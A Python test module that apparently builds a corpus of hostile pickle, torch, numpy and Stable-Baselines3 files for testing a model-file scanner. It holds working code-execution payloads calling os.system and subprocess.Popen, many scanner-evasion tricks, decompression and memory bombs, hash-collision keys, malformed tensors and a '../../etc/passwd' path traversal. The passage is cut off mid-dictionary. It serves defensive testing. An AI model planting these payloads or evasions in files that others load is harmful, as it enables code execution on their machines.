"""Hostile files: what each does, by which trick, and who opens it in earnest.

`python -m tests.hostile.corpus DIRECTORY` writes them. Sources: CPython, `Lib/pickletools.py`; the
advisories of picklescan, modelscan and fickling up to 2026; CVE-2018-20406, CVE-2025-1716,
CVE-2025-1889, CVE-2025-10155 to 10157, CVE-2025-32434, CVE-2026-24747.
"""

from __future__ import annotations

import base64
import gzip
import io
import json
import pickle
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import numpy as np
from tests.hostile.assembly import Call, Code, Name, assemble, call, emit, name, text
from tests.hostile.gadgets import (
    ELSEWHERE,
    FUNCTIONS,
    MAPPED,
    NOT_LIVE,
    OS_SYSTEM,
    SHELL,
    WAYS_ROUND,
)


@dataclass(frozen=True)
class Case:
    """One hostile file."""

    name: str
    data: bytes
    loader: str = "pickle"
    """Who opens it in earnest: a key of `genuine.LOADERS`."""
    is_live: bool = False
    """Whether it executes under that loader, with the versions that the tests run with."""

    @property
    def kind(self) -> str:
        """`execution`, `bomb` or `malformed`."""
        return self.name.partition("-")[0]


def _case(kind: str, title: str, data: bytes, loader: str = "pickle", live: bool = False) -> Case:
    return Case(f"{kind}-{title}".replace(" ", "_"), data, loader, live)


def cases() -> list[Case]:
    """The whole corpus."""
    found = [
        *_functions(), *_opcodes(), *_evasions(), *_torch(), *_containers(), *_bombs(), *_keys(),
        *_malformed_arrays(), *_malformed_tensors(), *_malformed_archives(),
    ]  # fmt: skip
    assert len({case.name for case in found}) == len(found)
    return found


# --------------------------------------------------------------------------- code by any function


def _functions() -> Iterator[Case]:
    for is_live, functions in ((True, FUNCTIONS), (False, ELSEWHERE)):
        for index, (path, arguments) in enumerate(functions):
            # Names of Python 2 are known to protocols before 3 alone.
            is_old = path.startswith(("__builtin__", "commands"))
            protocol = 2 if is_old else (0, 2, 4)[index % 3]
            data = assemble(Call(name(path), arguments), protocol, stack_global=protocol == 4)
            yield _case("execution", f"calls {path.replace(':', '.')}", data, live=is_live)
    for title, value in WAYS_ROUND.items():
        yield _case("execution", title, assemble(value, 4), live=title not in NOT_LIVE)
    content = call("io:BytesIO", _npy(assemble(OS_SYSTEM)))
    yield _case("execution", "numpy in a pickle",
                assemble(call("numpy:load", content, None, True)), live=True)  # fmt: skip


# --------------------------------------------------------------------------- code by every opcode


def _opcodes() -> Iterator[Case]:
    system, command = emit(Name("os", "system")), emit(SHELL)
    arguments = emit((SHELL,))
    run = ["sh", "-c", SHELL]
    by_opcode = {
        "GLOBAL and REDUCE": b"cos\nsystem\n(S'" + SHELL.encode() + b"'\ntR.",
        "INST": b"(S'" + SHELL.encode() + b"'\nios\nsystem\n.",
        "OBJ": b"(" + system + command + b"o.",
        "STACK_GLOBAL": b"\x80\x04" + text("os") + text("system") + b"\x93" + arguments + b"R.",
        "NEWOBJ": b"\x80\x02csubprocess\nPopen\n" + b")\x81" + b"0csubprocess\nPopen\n"
        + emit((run,)) + b"R.",
        "NEWOBJ_EX": b"\x80\x04" + emit(Name("functools", "partial")) + emit((Name("os", "system"),
        SHELL)) + b"}\x92)R.",
        "BUILD of a partial": b"\x80\x02" + emit(WAYS_ROUND["partial by its state"]) + b".",
        "BUILD of a module": b"\x80\x02" + emit(call("builtins:__import__", "json")) + emit(
            {"dumps": Name("os", "system")}) + b"b0cjson\ndumps\n" + arguments + b"R.",
        "BUILD of a class": b"\x80\x02ccollections\nUserDict\nN}" + text("__init__")
        + system + b"s\x86b0ccollections\nUserDict\n" + emit(WAYS_ROUND["partial"]) + b"0"
        + arguments + b"R.",
        "BUILD with slots": b"\x80\x02" + emit(call("builtins:__import__", "json"))
        + b"N}" + text("dumps") + system + b"s\x86b0cjson\ndumps\n" + arguments + b"R.",
        "SETITEM of modules": b"\x80\x02csys\nmodules\n" + text("json")
        + emit(call("builtins:__import__", "os")) + b"s0cjson\nsystem\n" + arguments + b"R.",
        "SETITEMS of modules": b"\x80\x02csys\nmodules\n(" + text("json")
        + emit(call("builtins:__import__", "os")) + b"u0cjson\nsystem\n" + arguments + b"R.",
        "SETITEM of the environment": b"\x80\x02cos\nenviron\n" + text("BASH_ENV") + text("x")
        + b"s0" + emit(OS_SYSTEM) + b".",
        "APPEND to the path": b"\x80\x02csys\npath\n" + text(".") + b"a0"
        + emit(call("importlib:import_module", "evil")) + b".",
        "APPENDS to the path": b"\x80\x02csys\npath\n(" + text(".") + b"e0"
        + emit(call("importlib:import_module", "evil")) + b".",
        "APPENDS to an object": b"\x80\x02" + emit(call("collections:deque"))
        + b"(" + emit(OS_SYSTEM) + b"e.",
        "ADDITEMS": b"\x80\x04\x8f(" + emit(OS_SYSTEM) + b"\x90.",
        "FROZENSET": b"\x80\x04(" + emit(OS_SYSTEM) + b"\x91.",
        "DICT": b"(" + text("x") + emit(OS_SYSTEM) + b"d.",
        "LIST": b"(" + emit(OS_SYSTEM) + b"l.",
        "TUPLE": b"\x80\x02" + emit(OS_SYSTEM) + b"\x85.",
        "key of a dictionary": b"\x80\x02}" + emit(OS_SYSTEM) + b"Ns.",
        "POP": b"\x80\x02" + emit(OS_SYSTEM) + b"0N.",
        "POP_MARK": b"\x80\x02N(" + emit(OS_SYSTEM) + b"1.",
        "DUP": b"\x80\x02" + system + b"20" + arguments + b"R.",
        "PUT and GET": b"cos\nsystem\np7\n0S'" + SHELL.encode() + b"'\np8\n0g7\n(g8\ntR.",
        "BINPUT and BINGET": b"\x80\x02" + system + b"q\x070" + b"h\x07" + arguments + b"R.",
        "LONG_BINPUT and LONG_BINGET": b"\x80\x02" + system + b"r\x00\x00\x01\x000j\x00\x00\x01\x00"
        + arguments + b"R.",
        "MEMOIZE": b"\x80\x04" + system + b"\x940h\x00" + arguments + b"R.",
        "FRAME": b"\x80\x04\x95" + struct.pack("<Q", len(emit(OS_SYSTEM)) + 1)
        + emit(OS_SYSTEM) + b".",
        "BINPERSID": b"\x80\x02" + emit(OS_SYSTEM) + b"Q.",
        "PERSID": emit(OS_SYSTEM) + b"0Px\n.",
        "two pickles": pickle.dumps(1) + assemble(OS_SYSTEM),
        "NEXT_BUFFER": b"\x80\x05" + emit(OS_SYSTEM) + b"0\x97.",
        "BYTEARRAY8": b"\x80\x05cpickle\nloads\n\x96" + struct.pack("<Q", len(assemble(OS_SYSTEM)))
        + assemble(OS_SYSTEM) + b"\x85R.",
    }  # fmt: skip
    for title, data in by_opcode.items():
        loader = "pickle_twice" if title == "two pickles" else "pickle"
        yield _case("execution", f"by {title}", data, loader, live=True)
    for title, code in (("EXT1", b"\x82\xf0"), ("EXT2", b"\x83\xf0\x00"),
                        ("EXT4", b"\x84\xf0\x00\x00\x00")):  # fmt: skip
        data = b"\x80\x02" + code + arguments + b"R."
        yield _case("execution", f"by {title}", data, "extensions", live=True)


def _evasions() -> Iterator[Case]:
    """Files that a scanner reads in another way than the machine."""
    arguments = emit((SHELL,))
    run = emit(OS_SYSTEM)
    by_trick = {
        "broken after the call": b"\x80\x02" + run + b"\xff\xff",
        "without an end": b"\x80\x02" + run,
        "unknown opcode after the call": b"\x80\x02" + run + b"0z.",
        "empty stack after the call": b"\x80\x02" + run + b"000.",
        "names from a memo written twice": b"\x80\x04" + text("json") + b"q\x000" + text("os")
        + b"q\x000h\x00" + text("system") + b"\x93" + arguments + b"R.",
        "memo of another number": b"\x80\x04" + text("system") + b"r\x2a\x00\x00\x000" + text("os")
        + b"j\x2a\x00\x00\x00\x93" + arguments + b"R.",
        "name put together": b"\x80\x04" + emit(
            Call(call("builtins:getattr", call("builtins:__import__", "os"),
                      call("builtins:str.join", "", ["sys", "tem"])), (SHELL,))) + b".",
        "name as bytes decoded": b"\x80\x02" + emit(
            Call(call("builtins:getattr", call("builtins:__import__", "os"),
                      call("codecs:decode", "flfgrz", "rot13")), (SHELL,))) + b".",
        "name with a line of comment": b"cos\nsystem\n" + arguments + b"R.",
        "protocol said late": run + b"0\x80\x02N.",
        "protocols said twice": b"\x80\x02\x80\x04" + run + b".",
        "trailing bytes": b"\x80\x02" + run + b"." + b"PK\x05\x06" + bytes(18),
        "leading none": b"N0" + run + b".",
        "unused value": b"\x80\x02}" + run + b"0.",
        "deep in a dictionary": b"\x80\x02" + emit({"a": [{"b": (OS_SYSTEM,)}]}) + b".",
        "in the state of an object": b"\x80\x02ccollections\nUserDict\n)\x81}" + text("data")
        + run + b"sb.",
        "in the arguments of a known name": b"\x80\x02" + emit(
            call("collections:OrderedDict", [("x", OS_SYSTEM)])) + b".",
        "in the dtype of an array": b"\x80\x02" + emit(call("numpy:dtype", OS_SYSTEM)) + b".",
        "state after a state": b"\x80\x02ccollections\nUserDict\n)\x81}b}" + text("x") + run
        + b"sb.",
        "INST in protocol 4": b"\x80\x04(" + text(SHELL) + b"ios\nsystem\n.",
        "unicode escapes": b"cos\nsystem\n(V"
        + "".join(f"\\u{ord(c):04x}" for c in SHELL).encode() + b"\ntR.",
        "string escapes": b"cos\nsystem\n(S'"
        + "".join(f"\\x{ord(c):02x}" for c in SHELL).encode() + b"'\ntR.",
        "octal escapes": b"cos\nsystem\n(S'"
        + "".join(f"\\{ord(c):03o}" for c in SHELL).encode() + b"'\ntR.",
        "name in many frames": b"\x80\x04\x95" + struct.pack("<Q", len(text("os")))
        + text("os") + b"\x95" + struct.pack("<Q", len(text("system")) + 1) + text("system")
        + b"\x93" + arguments + b"R.",
        "reconstructor": b"\x80\x02" + emit(
            call("copyreg:_reconstructor", Name("builtins", "list"), Name("builtins", "list"),
                 MAPPED)) + b".",
        "newobj by name": b"\x80\x02" + emit(
            call("copyreg:__newobj__", Name("subprocess", "Popen"))) + run + b".",
        "extension registered by the file": b"\x80\x02" + emit(
            call("copyreg:add_extension", "os", "system", 0x77)) + b"0\x82\x77" + arguments + b"R.",
        "hidden behind a long text": b"\x80\x02" + text("a" * 200_000) + b"0" + run + b".",
        "global after a marked stop": b"\x80\x02(N." + run + b".",
        "large memo": b"\x80\x02" + b"".join(
            b"K\x01r" + struct.pack("<I", n) + b"0" for n in range(600)) + run + b".",
    }  # fmt: skip
    dead = ("global after a marked stop",)
    for title, data in by_trick.items():
        yield _case("execution", title, data, live=title not in dead)


# --------------------------------------------------------------------------- files of torch


def _torch_zip(pickled: bytes, **members: bytes) -> bytes:
    """A ZIP archive as torch lays it out, around a pickle."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        archive.writestr("archive/data.pkl", pickled)
        archive.writestr("archive/byteorder", "little")
        for title, data in members.items():
            archive.writestr(f"archive/data/{title.removeprefix('_')}", data)
        archive.writestr("archive/version", "3\n")
    return buffer.getvalue()


def _legacy(pickled: bytes, storages: tuple[tuple[str, bytes], ...] = ()) -> bytes:
    """A file as torch before 1.6 laid it out, around a pickle."""
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    about = {"protocol_version": 1001, "little_endian": True, "type_sizes": {}}
    tail = pickle.dumps([key for key, _ in storages], 2)
    data = b"".join(struct.pack("<q", len(part) // 4) + part for _, part in storages)
    return head + pickle.dumps(about, 2) + pickled + tail + data


def _old_tar(pickled: bytes, **others: bytes) -> bytes:
    """A tar archive as torch before 0.1.10 wrote it."""
    buffer = io.BytesIO()
    members = {"sys_info": pickle.dumps({}, 2), "pickle": pickled,
               "storages": pickle.dumps(0, 2) + pickle.dumps([], 2),
               "tensors": pickle.dumps(0, 2), **others}  # fmt: skip
    with tarfile.open(fileobj=buffer, mode="w", format=tarfile.USTAR_FORMAT) as archive:
        for title, data in members.items():
            info = tarfile.TarInfo(title)
            info.size = len(data)
            archive.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def _storage(numel: Any, key: Any = "0", cls: Any = None, location: Any = "cpu") -> Code:
    """A reference to a storage outside the pickle."""
    parts = ("storage", cls or Name("torch", "FloatStorage"), key, location, numel)
    return Code(emit(parts) + b"Q")


def _tensor(
    size: Any, stride: Any, *, offset: Any = 0, numel: Any = 4, storage: Code | None = None
) -> Call:
    hooks = call("collections:OrderedDict")
    return call("torch._utils:_rebuild_tensor_v2", storage or _storage(numel), offset, size, stride,
                False, hooks)  # fmt: skip


_FOUR = np.arange(4, dtype="<f4").tobytes()


def _torch() -> Iterator[Case]:
    run = assemble(OS_SYSTEM)
    yield _case("execution", "torch archive", _torch_zip(run), "torch", True)
    yield _case("execution", "torch legacy", _legacy(run), "torch", True)
    yield _case("execution", "torch tar", _old_tar(run), "torch", True)
    yield _case("execution", "torch tar with weights_only", _old_tar(run), "torch_weights")
    tar = _old_tar(pickle.dumps({}), storages=assemble(OS_SYSTEM))
    yield _case("execution", "torch tar in its storages", tar, "torch", True)
    legacy = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + run
    yield _case("execution", "torch legacy in its protocol", legacy, "torch", True)
    head = pickle.dumps(0x1950A86A20F9469CFC6C, 2) + pickle.dumps(1001, 2)
    yield _case("execution", "torch legacy in its system", head + run, "torch", True)
    keys = _legacy(pickle.dumps({}, 2)).removesuffix(pickle.dumps([], 2)) + run
    yield _case("execution", "torch legacy in its keys", keys, "torch", True)
    tensor = call("torch.storage:_load_from_bytes", _legacy(run))
    yield _case("execution", "torch inside a pickle", assemble(tensor), "pickle", True)
    state = {"weight": _tensor((4,), (1,)), "evil": OS_SYSTEM}
    yield _case("execution", "torch state dict with one call",
                _torch_zip(assemble(state), _0=_FOUR), "torch", True)  # fmt: skip
    subclass = assemble(call("torch._tensor:_rebuild_from_type_v2", Name("os", "system"),
                             Name("torch", "Tensor"), (SHELL,), None))  # fmt: skip
    yield _case("execution", "torch tensor of a type", _torch_zip(subclass), "torch", True)
    hooks = Call(name("torch._utils:_rebuild_parameter"), (_tensor((4,), (1,)), True, OS_SYSTEM))
    yield _case("execution", "torch hooks of a parameter",
                _torch_zip(assemble(hooks), _0=_FOUR), "torch", True)  # fmt: skip
    identifier = Code(emit(("storage", OS_SYSTEM, "0", "cpu", 4)) + b"Q")
    yield _case("execution", "torch storage identifier",
                _torch_zip(assemble(identifier), _0=_FOUR), "torch", True)  # fmt: skip
    module = Code(emit(("module", OS_SYSTEM, "x.py", "source")) + b"Q")
    yield _case("execution", "torch module identifier", _legacy(assemble(module)), "torch", True)
    patch = Code(emit(("module", Name("torch.nn.modules.linear", "Linear"), "x.py", "source"))
                 + b"Q")  # fmt: skip
    yield _case("execution", "torch module with another source", _legacy(assemble(patch)), "torch")
    scripted = _torch_zip(run)
    buffer = io.BytesIO(scripted)
    with zipfile.ZipFile(buffer, "a") as archive:
        archive.writestr("archive/constants.pkl", run)
        archive.writestr("archive/code/__torch__.py", "import os\n")
    yield _case("execution", "torch script", buffer.getvalue(), "torch")
    setitem = b"\x80\x02" + emit(_tensor((4,), (1,))) + emit(0) + emit(OS_SYSTEM) + b"s."
    yield _case("execution", "torch SETITEM of a tensor", _torch_zip(setitem, _0=_FOUR),
                "torch", True)  # fmt: skip
    yield _case("execution", "torch weights_only with a class",
                _torch_zip(b"\x80\x02cos\nsystem\n)\x81."), "torch_weights")  # fmt: skip


# --------------------------------------------------------------------------- files in files


def _npy(content: bytes, header: bytes | None = None) -> bytes:
    """A file of numpy's that holds objects, as a pickle."""
    header = header or b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (-(len(header) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + content


def _sb3(data: Any = None, **members: bytes) -> bytes:
    """A model of Stable-Baselines3."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("data", json.dumps({} if data is None else data))
        archive.writestr("pytorch_variables.pth", _torch_zip(pickle.dumps({}, 2)))
        archive.writestr("_stable_baselines3_version", "2.9.2")
        for title, content in members.items():
            archive.writestr(title.replace("__", "."), content)
    return buffer.getvalue()


def _containers() -> Iterator[Case]:
    run = assemble(OS_SYSTEM)
    pickled = {":type:": "<class 'function'>", ":serialized:": base64.b64encode(run).decode()}
    yield _case("execution", "sb3 in its data", _sb3({"lr_schedule": pickled}), "sb3", True)
    several = {"policy_class": pickled, "clip_range": pickled, "gamma": 0.9}
    yield _case("execution", "sb3 in its class", _sb3(several), "sb3", True)
    yield _case("execution", "sb3 in its policy", _sb3(policy__pth=_torch_zip(run)), "sb3")
    yield _case("execution", "sb3 in its variables",
                _sb3(actor__optimizer__pth=_legacy(run)), "sb3")  # fmt: skip
    yield _case("execution", "npy with objects", _npy(run), "numpy", True)
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("x.npy", _npy(run))
    yield _case("execution", "npz with objects", buffer.getvalue(), "numpy", True)
    yield _case("execution", "gzip around a pickle", gzip.compress(run, mtime=0), "gzip", True)
    yield _case("execution", "gzip around a file of torch",
                gzip.compress(_torch_zip(run), mtime=0))  # fmt: skip
    array = call("numpy._core.multiarray:_reconstruct", Name("os", "system"), (0,), b"b")
    yield _case("execution", "array of a class of its own", assemble(array))
    state = (1, (1,), call("numpy:dtype", "O"), False, [OS_SYSTEM])
    made = call("numpy._core.multiarray:_reconstruct", Name("numpy", "ndarray"), (0,), b"b")
    yield _case("execution", "array with a call inside",
                assemble(Call(made.function, made.arguments, state)), live=True)  # fmt: skip


# --------------------------------------------------------------------------- bombs


def _long(opcode: bytes, size: int, width: str = "<Q") -> bytes:
    return b"\x80\x05" + opcode + struct.pack(width, size)


def _laughs(levels: int, make: bytes) -> bytes:
    """Values that hold the one before ten times."""
    code = b"\x80\x04N\x85\x94"
    for level in range(levels):
        code += b"(" + b"j".join([b""] + [struct.pack("<I", level)] * 10) + make + b"\x94"
    return code + b"."


def _bombs() -> Iterator[Case]:
    million = 200_000
    by_trick = {
        "memo of two thousand million": b"\x80\x02Nr\xff\xff\xff\x7f.",
        "memo of four thousand million by text": b"Np4294967295\n.",
        "memo of a number without end": b"Np" + b"9" * 4000 + b"\n.",
        "memo that is sparse": b"\x80\x02N" + b"".join(
            b"r" + struct.pack("<I", 10 + n * 1000) for n in range(20_000)) + b".",
        "text of more than there is": _long(b"\x8d", 2**62),
        "bytes of more than there are": _long(b"\x8e", 2**62),
        "bytearray of more than there is": _long(b"\x96", 2**40),
        "frame of more than there is": _long(b"\x95", 2**62) + b"N.",
        "integer of more than there is": _long(b"\x8b", 2**31 - 1, "<i"),
        "integer of a million digits": b"I" + b"9" * million + b"\n.",
        "long of a million digits": b"L" + b"9" * million + b"L\n.",
        "lists of nothing": b"\x80\x02" + b"]" * (3 * million) + b".",
        "dictionaries of nothing": b"\x80\x02" + b"}" * (3 * million) + b".",
        "sets of nothing": b"\x80\x04" + b"\x8f" * (3 * million) + b".",
        "marks": b"\x80\x02" + b"(" * (5 * million) + b"N.",
        "memoized none": b"\x80\x04N" + b"\x94" * (5 * million) + b".",
        "duplicates": b"\x80\x02N" + b"2" * (5 * million) + b".",
        "names": b"\x80\x02" + b"ca\nb\n" * million + b".",
        "objects": b"\x80\x02ca\nb\nq\x00" + b"0h\x00)\x81" * million + b".",
        "calls kept": b"\x80\x02](" + b"ca\nb\n)R" * (million // 2) + b"e.",
        "tuples in tuples": b"\x80\x02N" + b"\x85" * (2 * million) + b".",
        "lists in lists": b"\x80\x02" + b"]" * million + b"a" * (million - 1) + b".",
        "dictionaries in dictionaries": b"\x80\x02" + b"}K\x00" * (million // 2) + b"N"
        + b"s" * (million // 2) + b".",
        "calls in calls": b"\x80\x02" + b"ca\nb\n" * 50_000 + b")" + b"R\x85" * 49_999 + b"R.",
        "states in states": b"\x80\x02" + b"ca\nb\n)\x81" * 50_000 + b"b" * 49_999 + b".",
        "laughs of lists": _laughs(100, b"l"),
        "laughs of tuples": _laughs(100, b"t"),
        "laughs of dictionaries": b"\x80\x04}\x94" + b"".join(
            b"}(" + b"".join(b"K" + bytes((n,)) + b"j" + struct.pack("<I", level)
                             for n in range(10)) + b"u\x94" for level in range(100)) + b".",
        "one text in many bytes": b"\x80\x02" + text("a" * million)
        + b"q\x000c_codecs\nencode\nq\x010]("
        + (b"h\x01h\x00" + text("latin1") + b"\x86R") * 5000 + b"e.",
        "one list in many sets": b"\x80\x02](" + b"".join(b"J" + struct.pack("<i", n)
        for n in range(100_000)) + b"eq\x000cbuiltins\nfrozenset\nq\x010]("
        + b"h\x01h\x00\x85R" * 5000 + b"e.",
        "one list in many deques": b"\x80\x02](" + b"N" * million + b"eq\x000ccollections\ndeque\n"
        b"q\x010](" + b"h\x01h\x00\x85R" * 5000 + b"e.",
        "bytes of a number": assemble(call("builtins:bytes", 2**40)),
        "bytearray of a number": assemble(call("builtins:bytearray", 2**40)),
        "range as a list": assemble(call("builtins:list", call("builtins:range", 2**40))),
        "text times a number": assemble(call("operator:mul", "a", 2**40)),
        "power": assemble(call("builtins:pow", 10, 10**9)),
        "shift": assemble(call("operator:lshift", 1, 2**40)),
        "fraction": assemble(call("fractions:Fraction", "1e99999999")),
        "decimal": assemble(call("builtins:int", call("decimal:Decimal", "1e999999999"))),
        "slow pattern": assemble(call("re:fullmatch", "(a+)+b", "a" * 40)),
        "zeros": assemble(call("numpy:zeros", 2**40)),
        "torch zeros": assemble(call("torch:zeros", 2**40)),
        "gzip": gzip.compress(bytes(500 * million), 9, mtime=0),
        "gzip in gzip": gzip.compress(gzip.compress(bytes(500 * million), 9, mtime=0), mtime=0),
        "deflated data.pkl": _deflated("archive/data.pkl", b"\x80\x02N" + b"]" * (20 * million)),
        "deflated data of a model": _deflated("data", b" " * (300 * million),
                                              {"_stable_baselines3_version": b"2"}),
        "members without end": _many_members(5_000),
        "files in files": _nested(60),
        "default": assemble(call("collections:defaultdict", Name("builtins", "list"))),
    }  # fmt: skip
    for title, data in by_trick.items():
        yield _case("bomb", title, data)


def _deflated(member: str, data: bytes, others: dict[str, bytes] | None = None) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr(member, data)
        for title, content in (others or {}).items():
            archive.writestr(title, content)
    return buffer.getvalue()


def _many_members(count: int) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("archive/data.pkl", pickle.dumps({}, 2))
        for index in range(count):
            archive.writestr(f"archive/data/{index}", b"")
    return buffer.getvalue()


def _nested(levels: int) -> bytes:
    """Files of torch in files of torch."""
    data = _legacy(pickle.dumps(1, 2))
    for _ in range(levels):
        data = _legacy(assemble(call("torch.storage:_load_from_bytes", data)))
    return data


def _keys() -> Iterator[Case]:
    """Keys of dictionaries and sets that are slow to hash or to compare."""
    prime = sys.hash_info.modulus
    colliding = [b"\x8a\x0a" + (prime * n).to_bytes(10, "little") for n in range(40_000)]
    deep = b"N" + b"\x85" * 100_000
    shared = b"\x80\x04)\x94" + b"".join(
        b"h" + bytes((n,)) + b"h" + bytes((n,)) + b"\x86\x94" for n in range(100)
    )
    huge = b"\x8b" + struct.pack("<i", 1_000_000) + b"\x7f" * 1_000_000
    by_trick = {
        "colliding numbers": b"\x80\x02}(" + b"N".join(colliding) + b"Nu.",
        "colliding numbers in a set": b"\x80\x04\x8f(" + b"".join(colliding) + b"\x90.",
        "colliding numbers in a frozen set": b"\x80\x04(" + b"".join(colliding) + b"\x91.",
        "colliding numbers in a call": b"\x80\x02cbuiltins\nset\n](" + b"".join(colliding)
        + b"e\x85R.",
        "colliding tuples": b"\x80\x02}(" + b"\x85N".join(colliding) + b"\x85Nu.",
        "colliding pairs": b"\x80\x02ccollections\nOrderedDict\n)R("
        + b"N".join(colliding) + b"Nu.",
        "deep tuple as a key": b"\x80\x02}" + deep + b"Ns.",
        "deep tuple in a set": b"\x80\x04\x8f(" + deep + b"\x90.",
        "shared tuple as a key": shared + b"}h\x63Ns.",
        "huge number as a key many times": b"\x80\x02" + huge + b"q\x000](" + b"}h\x00Ns" * 20_000
        + b"e.",
        "numbers in one row of a table": b"\x80\x02}(" + b"".join(
            b"\x8a\x08" + (n << 32).to_bytes(8, "little") + b"N" for n in range(60_000)) + b"u.",
        "records as keys": b"\x80\x02}(" + b"ca\nb\n)\x81N" * 10_000 + b"u.",
    }  # fmt: skip
    for title, data in by_trick.items():
        yield _case("bomb", f"{title} of a dictionary", data)


# --------------------------------------------------------------------------- malformed arrays


def _array(shape: Any, dtype: Any, raw: Any, fortran: Any = False) -> Call:
    made = call("numpy._core.multiarray:_reconstruct", Name("numpy", "ndarray"), (0,), b"b")
    return Call(made.function, made.arguments, (1, shape, dtype, fortran, raw))


def _dtype(code: Any, *state: Any) -> Call:
    full = state or (3, "<", None, None, None, -1, -1, 0)
    return Call(name("numpy:dtype"), (code, False, True), full)


def _malformed_arrays() -> Iterator[Case]:
    float32 = _dtype("f4")
    objects = (3, "|", None, None, None, -1, -1, 63)
    lying = (3, "|", None, None, None, -1, -1, 0)
    fields = (3, "|", None, ("a",), {"a": (_dtype("O", *lying), 0)}, 8, 1, 0)
    outside = (3, "|", None, ("a",), {"a": (float32, 1 << 40)}, 8, 1, 0)
    before = (3, "|", None, ("a",), {"a": (float32, -8)}, 8, 1, 0)
    values = {
        "too few bytes": _array((100,), float32, b"abcd"),
        "too many bytes": _array((1,), float32, b"abcd" * 100),
        "negative shape": _array((-1, 4), float32, b"abcd"),
        "shape that wraps round": _array((2**32, 2**32, 4), float32, b""),
        "shape of zero and more": _array((0, 2**62), float32, b""),
        "shape of many axes": _array((1,) * 200, float32, b"abcd"),
        "shape of text": _array("abc", float32, b"abcd"),
        "shape of a float": _array((1.0,), float32, b"abcd"),
        "shape of true": _array((True,), float32, b"abcd"),
        "addresses for objects": _array((1,), _dtype("O", *objects), b"A" * 8),
        "addresses for objects that are denied": _array((1,), _dtype("O", *lying), b"A" * 8),
        "addresses in a field": _array((1,), _dtype("V8", *fields), b"A" * 8),
        "field outside": _array((1,), _dtype("V8", *outside), b"A" * 8),
        "field before": _array((1,), _dtype("V8", *before), b"A" * 8),
        "field that holds itself": _array((1,), _dtype("V8", 3, "|", None, ("a", "a"),
                                                       {"a": (float32, 0)}, 8, 1, 0), b"A" * 8),
        "items of no size": _array((2**50,), _dtype("V0", 3, "|", None, None, None, 0, 1, 0), b""),
        "items of a size that is none": _array((1,), _dtype("V99999999999"), b"A"),
        "subarray of a size that is none": _array((1,), _dtype("V8", 3, "|", (float32, (2**40,)),
                                                               None, None, 8, 1, 0), b"A" * 8),
        "type by text": _array((1,), call("numpy:dtype", "f4,O"), b"A" * 12),
        "type by a list": _array((1,), call("numpy:dtype", [("a", "O")]), b"A" * 8),
        "type that is none": _array((1,), 7, b"A"),
        "type of dates with a unit that is none": _array((1,), _dtype(
            "M8", 4, "<", None, None, None, -1, -1, 0, ({}, (b"lightyears", 1, 1, 1))), b"A" * 8),
        "bytes that are text": _array((1,), float32, "abcd"),
        "bytes that are a list": _array((4,), float32, [1, 2, 3, 4]),
        "objects that are too few": _array((5,), _dtype("O", *objects), [1]),
        "scalar of an object": call("numpy._core.multiarray:scalar", _dtype("O", *objects),
                                    b"A" * 8),
        "scalar of too few bytes": call("numpy._core.multiarray:scalar", float32, b"A"),
        "scalar without bytes": call("numpy._core.multiarray:scalar", float32),
        "buffer of objects": call("numpy._core.numeric:_frombuffer", b"A" * 8,
                                  _dtype("O", *objects), (1,), "C"),
        "buffer in another order": call("numpy._core.numeric:_frombuffer", b"A" * 4, float32, (1,),
                                        "Z"),
        "without a state": Call(name("numpy._core.multiarray:_reconstruct"),
                                (Name("numpy", "ndarray"), (0,), b"b")),
        "generator with a state that is none": Call(
            name("numpy.random._pickle:__bit_generator_ctor"), ("MT19937",),
            {"bit_generator": "MT19937", "state": {"key": 1, "pos": 2**62}}),
        "masked": call("numpy.ma.core:_mareconstruct", Name("numpy.ma", "MaskedArray"),
                       Name("numpy", "ndarray"), (0,), "b"),
        "moment of bytes that are none": call("datetime:datetime", b"\xff" * 10),
        "moment of the wrong length": call("datetime:datetime", b"\xff"),
        "zone that is a file": call("zoneinfo:ZoneInfo._unpickle", "../../etc/passwd", True),
        "path of zeros": call("pathlib:PosixPath", "\0" * 10),
        "number of a UUID": Call(call("uuid:UUID").function, (), {"int": -1}),
        "duration that overflows": call("datetime:timedelta", 2**62, 0, 0),
        "dictionary of half a pair": call("collections:OrderedDict", [("a",)]),
    }  # fmt: skip
    for title, value in values.items():
        yield _case("malformed", f"array {title}", assemble(value))


# --------------------------------------------------------------------------- malformed tensors


def _malformed_tensors() -> Iterator[Case]:
    big = 2**62
    values = {
        "larger than its storage": _tensor((1000,), (1,)),
        "strides that leave": _tensor((2, 2), (1000, 1)),
        "strides that wrap round": _tensor((2**32 + 1, 1), (2**32, 1)),
        "strides that wrap to zero": _tensor((2, 2), (big, 1)),
        "negative strides": _tensor((4,), (-1,)),
        "negative offset": _tensor((1,), (1,), offset=-1),
        "offset that leaves": _tensor((1,), (1,), offset=big),
        "negative size": _tensor((-1,), (1,)),
        "sizes without strides": _tensor((4,), ()),
        "sizes of text": _tensor("abc", (1,)),
        "expanded without end": _tensor((2**40,), (0,)),
        "expanded in many axes": _tensor((2**20, 2**20, 2**20), (0, 0, 0)),
        "many axes": _tensor((1,) * 100, (1,) * 100),
        "storage that claims more": _tensor((100,), (1,), numel=100),
        "storage that claims less": _tensor((1,), (1,), numel=1),
        "storage that claims nothing": _tensor((1,), (1,), numel=-1),
        "storage of another type": _tensor((4,), (1,), storage=_storage(
            4, cls=Name("torch", "DoubleStorage"))),
        "storage of a class of its own": _tensor((4,), (1,), storage=_storage(
            4, cls=Name("os", "system"))),
        "storage that is not there": _tensor((4,), (1,), storage=_storage(4, key="7")),
        "storage by a path": _tensor((4,), (1,), storage=_storage(4, key="../data.pkl")),
